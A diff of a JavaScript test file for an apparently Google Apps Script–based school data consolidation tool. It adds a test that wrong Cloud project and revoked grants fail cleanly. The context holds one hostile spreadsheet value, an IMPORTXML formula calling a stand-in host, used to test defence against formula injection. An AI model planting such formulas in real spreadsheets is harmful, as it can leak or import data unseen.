@@ -248,6 +248,40 @@ test('a trashed, an unshared, a swapped and a damaged workbook are named with wh
   expect(figures(world.rows('facts'))).toEqual(figures(before));
 });
 
+test('a script in another Cloud project, or without its grants, says so with both numbers; nothing is lost and nothing made', () => {
+  const { world, schools } = fork();
+  for (const school of schools) submit(school);
+  world.consolidate();
+  const before = seen(world);
+  const script = world.workspace.scripts.get(world.script);
+  if (script === undefined) throw new Error('No script.');
+  const known = world.setting('cloudProject');
+  expect(known).toBe(script.cloudProject);
+  const fromStart = () => {
+    world.call('consolidateFromStart');
+    return world.finishJob();
+  };
+  world.workspace.scripts.put(script.id, { ...script, cloudProject: '100000000001' });
+  const moved = fromStart();
+  expect(moved).toMatchObject({ state: 'failed', problems: [{ code: 'google.other-project' }] });
+  expect(moved.problems[0]?.message).toMatch(new RegExp(`100000000001.*${known}`));
+  const files = world.workspace.files.values().length;
+  world.call('createTemplate');
+  expect(world.person.messages[world.person.messages.length - 1]).toContain(known);
+  expect(world.workspace.files.values()).toHaveLength(files);
+
+  world.workspace.scripts.put(script.id, script);
+  const grants = world.workspace.fileGrants.ids();
+  for (const id of grants) world.workspace.fileGrants.delete(id);
+  const lost = fromStart();
+  expect(lost).toMatchObject({ state: 'failed', problems: [{ code: 'google.grant-lost' }] });
+  expect(lost.problems[0]?.remedy).toContain('cấp quyền lại');
+  expect(seen(world)).toEqual(before);
+  for (const id of grants) world.workspace.fileGrants.put(id, { granted: world.workspace.clock.now() });
+  expect(fromStart()).toMatchObject({ state: 'finished', done: SCHOOLS });
+  expect(seen(world)).toEqual(before);
+});
+
 test('what a school typed never becomes a formula of the district', () => {
   const { world, schools } = fork();
   const hostile = '=IMPORTXML("http://x.example","//a")';
